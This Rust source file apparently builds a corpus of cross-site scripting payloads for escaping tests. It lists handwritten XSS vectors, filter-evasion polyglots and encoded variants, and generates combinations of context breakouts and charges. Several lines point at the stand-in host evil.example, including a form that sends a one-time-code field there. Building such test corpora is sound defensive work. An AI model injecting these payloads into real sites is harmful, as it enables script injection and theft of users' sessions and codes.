//! Text that becomes a script, a frame or a form where somebody forgets to escape it. The tests in a real browser use the same.

/// Scripts, handlers, frames, styles, comments and templates; broken out of text, attributes, titles and addresses.
const WRITTEN: [&str; 70] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\t>alert(1)</script\t>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</h1><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<script>-->",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x/>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=otp>",
    "<button formaction=//evil.example>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<x style=xss:expression(alert(1))>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<select><option></select><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "\"/><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) x=`",
    "javascript:alert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003ealert(1)",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<scr\u{200b}ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "{{7*7}}<b>",
    "{% raw %}<b>",
    "${alert(1)}<b>",
    "{ $issuer }<b>",
    "<b>bold</b>",
    "a\u{202e}<i>b",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

/// Ways out of where a text stands: plain text, attributes in each kind of quotes, and elements that end only by their names.
const WAYS_OUT: [&str; 10] =
    ["", "\">", "'>", "` ", "</p>", "</title>", "</textarea>", "</style>", "--></script>", "\u{a0}\"\t/>"];

/// What runs, loads or leads away once it is out.
const CHARGES: [&str; 7] = [
    "<svg onload=alert(2)>",
    "<b onclick=alert(2)>b",
    "<img src onerror=alert(2)>",
    "<iframe src=//a.example>",
    "<p style=color:red>p",
    "<a href=JavaScript:alert(2)>",
    "<script>alert(2)</script>",
];

/// Ways to write it for somebody who decodes once too often, or reads another character set.
const SPELLINGS: [fn(&str) -> String; 10] = [
    |text| text.bytes().map(|byte| format!("%{byte:02x}")).collect(),
    |text| text.replace('<', "%253C").replace('>', "%253E"),
    |text| text.replace('<', "&lt;").replace('>', "&gt;"),
    |text| text.replace('<', "&#x3C").replace('>', "&#62"),
    |text| text.replace('<', "\\x3c").replace('>', "\\x3e"),
    |text| text.replace('<', "\\u003C").replace('>', "\\u003E"),
    |text| text.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
    |text| text.replace('<', "\u{2039}<").replace(' ', "\u{3000}"),
    |text| text.replace('<', "<\u{ad}").replace(' ', "/"),
    |text| text.chars().rev().chain("\u{202e}<i>".chars()).collect(),
];

/// All of them: those written by hand, every charge behind every way out, and every charge in every spelling.
pub(crate) fn payloads() -> Vec<String> {
    let mut all: Vec<String> = WRITTEN.map(str::to_owned).into();
    for charge in CHARGES {
        all.extend(WAYS_OUT.map(|way| format!("{way}{charge}")));
        all.extend(SPELLINGS.map(|spell| spell(charge)));
    }
    let different: std::collections::BTreeSet<&String> = all.iter().collect();
    assert_eq!((all.len(), different.len()), (210, 210), "two payloads are one");
    all
}
